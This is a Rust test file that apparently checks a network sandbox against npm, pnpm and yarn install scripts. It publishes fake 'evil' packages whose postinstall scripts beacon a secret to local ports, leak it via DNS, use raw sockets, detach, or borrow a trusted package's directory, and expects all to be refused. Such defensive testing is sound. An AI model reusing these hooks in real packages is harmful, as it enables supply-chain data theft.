//! npm: install scripts of packages.

use crate::alone::alone;
use crate::findings::{Finding, expect_refused};
use crate::harness::{missing, skipped};
use crate::tools::{go_program, npm_tool};
use crate::world::{Run, SECRET, World, pack, python_name, static_program};
use serde_json::json;
use std::fs;
use std::process::Command;

const CI: &str = "rm -rf node_modules && npm ci --no-audit --no-fund --no-update-notifier --logs-max=0 --fetch-retries=0";

/// A package with one script, in the registry; `files` are its name and text.
fn publish(world: &World, name: &str, script: &str, files: &[(&str, &str)]) {
    let folder = format!("packages/{name}");
    let about = json!({ "name": name, "version": "1.0.0", "scripts": { "postinstall": script } });
    world
        .dir
        .write(&format!("{folder}/package.json"), about.to_string());
    for (file, text) in files {
        world
            .dir
            .write(&format!("{folder}/{file}"), world.filled(text));
    }
    store(world, name);
}

/// What is in the package's folder, as the registry gives it away.
fn store(world: &World, name: &str) {
    let folder = world.dir.path(&format!("packages/{name}"));
    let tarball = format!("{name}-1.0.0.tgz");
    pack(
        &folder,
        "package",
        &world.dir.path(&format!("www/{tarball}")),
    );
    let text = fs::read_to_string(folder.join("package.json")).unwrap();
    let mut version: serde_json::Value = serde_json::from_str(&text).unwrap();
    let sum = Command::new("sha1sum")
        .arg(world.dir.path(&format!("www/{tarball}")))
        .output();
    let sum = String::from_utf8(sum.unwrap().stdout).unwrap();
    version["dist"] = json!({
        "tarball": format!("{}/{tarball}", world.url()), "shasum": sum.split(' ').next(),
    });
    let about = json!({
        "name": name, "dist-tags": { "latest": "1.0.0" }, "versions": { "1.0.0": version },
    });
    world.dir.write(&format!("www/{name}"), about.to_string());
}

/// A project with these packages, and its lock file.
fn project(world: &World, name: &str, packages: &[&str]) {
    let all = |value: &dyn Fn(&str) -> serde_json::Value, prefix: &str| {
        let pairs = packages.iter();
        let pairs = pairs.map(|package| (format!("{prefix}{package}"), value(package)));
        pairs.collect::<serde_json::Map<_, _>>()
    };
    let this = json!({
        "name": name, "version": "1.0.0", "dependencies": all(&|_| json!("1.0.0"), ""),
    });
    let resolved = |package: &str| {
        json!({ "version": "1.0.0", "resolved": format!("{}/{package}-1.0.0.tgz", world.url()),
            "hasInstallScript": true })
    };
    let mut locked = all(&resolved, "node_modules/");
    locked.insert(String::new(), this.clone());
    let lock = json!({
        "name": name, "version": "1.0.0", "lockfileVersion": 3, "requires": true,
        "packages": locked,
    });
    let file = |file: &str, text: String| world.dir.write(&format!("home/{name}/{file}"), text);
    file("package.json", this.to_string());
    file("package-lock.json", lock.to_string());
    file(".npmrc", format!("registry={}/\n", world.url()));
}

/// Fetches, as packages with prebuilt parts do.
const FETCH: &str = "require('http').get('http://files.test:@FILES@/prebuilt', answer => {
    if (answer.statusCode !== 200) process.exit(1);
    answer.resume();
}).on('error', error => { console.error(error); process.exit(1) });
";

/// The same, in a script that must not get it.
const FETCH_QUIETLY: &str =
    "require('http').get('http://files.test:@FILES@/stolen', answer => answer.resume())
    .on('error', error => console.log(error.code));
";

const BESIDE: &str = "cd ../good && node ../evil-elsewhere/fetch.js";

/// The same places by node's own means.
const BEACON: &str =
    "require('net').connect(@BEACON@, '127.0.0.1', function () { this.end('secret') })
    .on('error', error => console.log(error.code));
";
const LOOKUP: &str = "require('dns').lookup('@SECRET@', (error, address) => {
    if (error) return console.log(error.code);
    require('net').connect(@BEACON@, address).on('error', error => console.log(error.code));
});
";

/// A package of the evil kind: what its script is, its files, and who is refused what.
type Evil<'a> = (&'a str, &'a str, &'a [(&'a str, &'a str)], &'a str, &'a str);

/// Publishes them, and says what must be found.
///
/// `elsewhere` starts `fetch.js` in the good package's directory.
fn evil_packages(world: &World, elsewhere: &str) -> Vec<Finding> {
    let beacon = format!("127.0.0.1:{}/tcp", world.beacon.port());
    let python = python_name();
    let mut all: Vec<Evil<'_>> = vec![
        (
            "evil-beacon",
            "node beacon.js",
            &[("beacon.js", BEACON)],
            "beacon.js",
            &beacon,
        ),
        (
            "evil-lookup",
            "node lookup.js",
            &[("lookup.js", LOOKUP)],
            "lookup.js",
            SECRET,
        ),
        (
            "evil-raw",
            "/usr/bin/python3 raw.py",
            &[("raw.py", include_str!("evil/raw.py"))],
            "raw.py",
            "127.0.0.1/raw",
        ),
        (
            "evil-forged",
            "/usr/bin/python3 forged.py",
            &[("forged.py", include_str!("evil/forged.py"))],
            &python,
            &beacon,
        ),
        (
            "evil-rewrite",
            "/usr/bin/python3 rewrite.py",
            &[("rewrite.py", include_str!("evil/rewrite.py"))],
            "rewrite.py",
            &beacon,
        ),
    ];
    let program = static_program(&world.dir);
    let dial = format!("./dial {}", world.beacon.port());
    if program.is_some() {
        all.push(("evil-static", &dial, &[], "dial", &beacon));
    }
    let mut findings = Vec::new();
    for (name, script, files, app, to) in all {
        publish(world, name, script, files);
        findings.push(finding(name, app, to));
    }
    let files = [("detached.py", include_str!("evil/detached.py"))];
    publish(
        world,
        "evil-detached",
        "/usr/bin/python3 detached.py",
        &files,
    );
    findings.push(Finding {
        package: "claimed:npm:evil-detached".to_owned(),
        ..finding("", "detached.py", &beacon)
    });
    // Where the rules would let the good one fetch what it needs.
    let files = format!("files.test:{}/tcp", world.files.port());
    let fetch = [("fetch.js", FETCH_QUIETLY)];
    publish(world, "evil-elsewhere", elsewhere, &fetch);
    findings.push(finding("evil-elsewhere in good", "fetch.js", &files));
    // No rule can be for these.
    findings.push(finding("evil-raw", "raw.py", "sockets of family 17"));
    match program {
        None => skipped("no compiler links a static program; that package is left out"),
        Some(program) => {
            fs::copy(program, world.dir.path("packages/evil-static/dial")).unwrap();
            store(world, "evil-static");
        }
    }
    findings
}

fn finding(name: &str, app: &str, to: &str) -> Finding {
    Finding {
        package: format!("npm:{name}"),
        step: "postinstall",
        app: app.to_owned(),
        to: to.to_owned(),
    }
}

/// Learns from the good package, then meets the evil ones.
#[track_caller]
fn good_then_evil(world: &World, command: &str, env: &[(&str, String)], elsewhere: &str) {
    publish(world, "good", "node fetch.js", &[("fetch.js", FETCH)]);
    project(world, "app", &["good"]);
    let run = |project| Run {
        project,
        command,
        env,
    };
    let policy = world.round_trip(&run("app"));
    assert!(policy.contains("package:npm:good"), "{policy}");
    assert!(world.files.connections() > 0);
    let findings = evil_packages(world, elsewhere);
    let mut packages = vec!["good"];
    for finding in &findings {
        let (_, name) = finding.package.split_once("npm:").unwrap();
        packages.push(name.split(' ').next().unwrap());
    }
    project(world, "victim", &packages);
    expect_refused(world, &run("victim"), &findings);
}

#[test]
fn install_scripts() {
    if missing("npm") || missing("python3") || !alone("npm::install_scripts") {
        return;
    }
    good_then_evil(&World::new(), CI, &[], BESIDE);
}

/// Built where the network is, before the case is alone.
#[test]
#[ignore = "long: tests/run --full"]
fn a_go_program_in_a_package() {
    if missing("npm") {
        return;
    }
    let Some(program) = go_program(include_str!("evil/dial.go")) else {
        return;
    };
    if !alone("npm::a_go_program_in_a_package") {
        return;
    }
    let world = World::new();
    world.dir.write("home/policy.json", policy_for(&world));
    let script = format!("./dial {}", world.beacon.port());
    publish(&world, "evil-go", &script, &[]);
    fs::copy(program, world.dir.path("packages/evil-go/dial")).unwrap();
    store(&world, "evil-go");
    project(&world, "victim", &["evil-go"]);
    let beacon = format!("127.0.0.1:{}/tcp", world.beacon.port());
    let run = Run {
        project: "victim",
        command: CI,
        env: &[],
    };
    expect_refused(&world, &run, &[finding("evil-go", "dial", &beacon)]);
}

/// npm may reach its registry.
fn policy_for(world: &World) -> String {
    let to = format!("registry.test:{}/tcp", world.registry.port());
    json!({ "version": 1, "default": "deny", "rules": [{ "do": "allow", "to": [to] }] }).to_string()
}

#[test]
#[ignore = "long: tests/run --full"]
fn install_scripts_under_pnpm() {
    let Some(pnpm) = npm_tool("pnpm", "12", "bin/pnpm.mjs") else {
        return;
    };
    if !alone("npm::install_scripts_under_pnpm") {
        return;
    }
    let command = format!(
        "rm -rf node_modules package-lock.json pnpm-lock.yaml ~/.local && node {pnpm} install --no-frozen-lockfile \
         --config.dangerouslyAllowAllBuilds=true --config.manage-package-manager-versions=false"
    );
    // Packages are not beside each other in its store.
    let elsewhere = r#"here=$PWD; cd "$INIT_CWD/node_modules/good" && node "$here/fetch.js""#;
    good_then_evil(&World::new(), &command, &[], elsewhere);
}

#[test]
#[ignore = "long: tests/run --full"]
fn install_scripts_under_yarn() {
    let Some(yarn) = npm_tool("yarn", "1", "bin/yarn.js") else {
        return;
    };
    if !alone("npm::install_scripts_under_yarn") {
        return;
    }
    let command = format!(
        "rm -rf node_modules package-lock.json yarn.lock ~/.cache && node {yarn} install --non-interactive"
    );
    good_then_evil(&World::new(), &command, &[], BESIDE);
}

#[test]
#[ignore = "long: tests/run --full"]
fn install_scripts_under_the_newer_yarn() {
    let Some(yarn) = npm_tool("@yarnpkg/cli-dist", "4", "bin/yarn.js") else {
        return;
    };
    if !alone("npm::install_scripts_under_the_newer_yarn") {
        return;
    }
    let world = World::new();
    let settings = format!(
        "npmRegistryServer: \"{}\"\nunsafeHttpWhitelist: [\"registry.test\"]\nnodeLinker: node-modules\n\
         enableTelemetry: false\nenableScripts: true\nenableGlobalCache: false\nhttpRetry: 0\nnpmMinimalAgeGate: 0\n",
        world.url()
    );
    world.dir.write("home/.yarnrc.yml", settings);
    let command = format!(
        "rm -rf node_modules package-lock.json yarn.lock ../.yarn .yarn && touch yarn.lock && node {yarn} install --inline-builds"
    );
    good_then_evil(&world, &command, &[("CI", "false".to_owned())], BESIDE);
}
